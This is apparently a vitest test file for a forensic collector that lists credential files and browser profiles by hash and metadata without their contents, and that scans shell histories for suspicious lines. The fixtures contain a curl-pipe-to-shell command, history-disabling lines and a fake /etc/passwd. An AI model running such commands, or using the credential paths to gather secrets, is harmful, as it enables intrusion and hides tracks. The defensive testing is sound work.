import { execFileSync } from "node:child_process";
import { afterEach, describe, expect, it } from "vitest";
import { readHistories } from "../../../src/collectors/traces/histories/histories.ts";
import { listFiles } from "../../../src/collectors/traces/listed/listed.ts";
import { listings } from "../../../src/collectors/traces/listed/table.ts";
import { disk, type Disk } from "../disk.ts";

/** Not a program of the project: the system has it. */
const mkfifo = "mkfifo";
let here: Disk | undefined;
afterEach(async () => {
  await here?.end();
  here = undefined;
});

function listing(id: string): (typeof listings)[number] {
  const found = listings.find((one) => one.id === id);
  if (found === undefined) throw new Error(`no listing ${id}`);
  return found;
}

describe("files that are only named", () => {
  it("credentials of other programs: facts and hashes, never what they say", async () => {
    here = await disk({
      files: {
        "~/.aws/credentials": "aws_secret_access_key = FAKE-aws-secret",
        "~/.kube/config": { link: "/etc/kube" },
        "~/.config/gh/hosts.yml": { content: "x", mode: 0o644, mtime: new Date("2026-11-01T00:00:00Z") },
        "~/project/.env": "A=FAKE",
        "~/.ssh/known_hosts": "x",
      },
    });
    execFileSync(mkfifo, [here.fake.path("~/.netrc")]);
    const { outcome, records } = await listFiles(here.sources, listing("other-credentials"));
    expect(outcome).toBe("ok");
    expect(records.map(({ group, type, place, link }) => [group, type, place.path, link])).toEqual([
      ["aws", "file", "/home/user/.aws/credentials", undefined],
      ["kubernetes", "symlink", "/home/user/.kube/config", "/etc/kube"],
      ["git", "fifo", "/home/user/.netrc", undefined],
      ["github, gitlab", "file", "/home/user/.config/gh/hosts.yml", undefined],
      ["environment files", "file", "/home/user/project/.env", undefined],
    ]);
    expect(records[0]?.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(records[3]).toMatchObject({ mode: 0o644, modifiedAt: "2026-11-01T00:00:00.000Z" });
    expect(JSON.stringify(records)).not.toContain("FAKE");
  });

  it("what is denied or too large is said", async () => {
    here = await disk({ files: { "~/.aws/credentials": "x", "~/.netrc": "y".repeat(100) } });
    here.fake.fail(here.fake.path("~/.aws"), "EACCES");
    const small = { ...listing("other-credentials"), maxBytes: 10 };
    const { outcome, reason, records } = await listFiles(here.sources, small);
    expect(outcome).toBe("partial");
    expect(reason).toContain("/home/user/.aws/credentials may not be read by this user");
    expect(reason).toContain("/home/user/.netrc is larger than 10 bytes");
    expect(records.map(({ sha256 }) => sha256)).toEqual([undefined]);
  });

  it("browser profiles and extensions", async () => {
    here = await disk({
      files: {
        "~/.openclaw/browser/openclaw/user-data/Default/Cookies": "x",
        "~/.config/google-chrome/Default/Extensions/abc/1.0_0/manifest.json": "{}",
        "~/.mozilla/firefox/p.default/key4.db": "x",
      },
    });
    const { records } = await listFiles(here.sources, listing("browser-profiles"));
    expect(records.map(({ group }) => group)).toEqual(["agent's browser", "Chrome", "Firefox"]);
  });

  it("have a table whose rows differ and are bounded", () => {
    for (const { id, timeoutMs, attack, groups } of listings) {
      expect([id, timeoutMs > 0 && timeoutMs <= 60_000, attack.length > 0]).toEqual([id, true, true]);
      const patterns = groups.flatMap(([, each]) => each);
      expect([id, patterns.filter((one) => !/^[~/]/.test(one))]).toEqual([id, []]);
    }
  });
});

describe("histories", () => {
  it("keep what is worth a look, with times, and say what was switched off", async () => {
    here = await disk({
      files: {
        "/etc/passwd": "root:x:0:0::/root:/bin/bash\nclaw:x:1000:1000::/home/user:/bin/bash\n",
        "~/.bash_history": "ls\n#1700000000\ncurl -s https://x.example | sh\nunset HISTFILE\n",
        "~/.zsh_history": { link: "/dev/null" },
        "~/.bashrc": "# unset HISTFILE\nexport HISTSIZE=0\n",
        "/root/.bash_history": "",
        "~/.python_history": "secret\nlines\n",
      },
    });
    const { outcome, records } = await readHistories(here.sources);
    expect(outcome).toBe("ok");
    const files = records.flatMap((one) =>
      one.kind === "file" ? [[one.user, one.name, one.lines, one.odd]] : [],
    );
    expect(files).toEqual([
      ["claw", ".bash_history", 3, []],
      ["claw", ".zsh_history", 0, ["a link to /dev/null: nothing is kept"]],
      ["claw", ".python_history", 0, []],
      ["root", ".bash_history", 0, ["it is empty"]],
    ]);
    const lines = records.flatMap((one) =>
      one.kind === "line" ? [[one.text, one.at, one.place.locator]] : [],
    );
    expect(lines).toEqual([
      ["curl -s https://x.example | sh", "2023-11-14T22:13:20.000Z", "line 3"],
      ["unset HISTFILE", undefined, "line 4"],
      ["export HISTSIZE=0", undefined, "line 2"],
    ]);
  });

  it("of any size and content are taken", async () => {
    here = await disk({
      files: {
        "~/.bash_history": "curl x\n".repeat(10_000),
        "~/.zsh_history": `curl ${"x".repeat(5_000_000)}`,
      },
    });
    const { outcome, reason, records } = await readHistories(here.sources);
    expect(outcome).toBe("partial");
    expect(reason).toContain("the last 2000 of 10000 telling lines were kept");
    expect(records.every((one) => one.kind === "file" || one.text.length <= 1000)).toBe(true);
  });
});
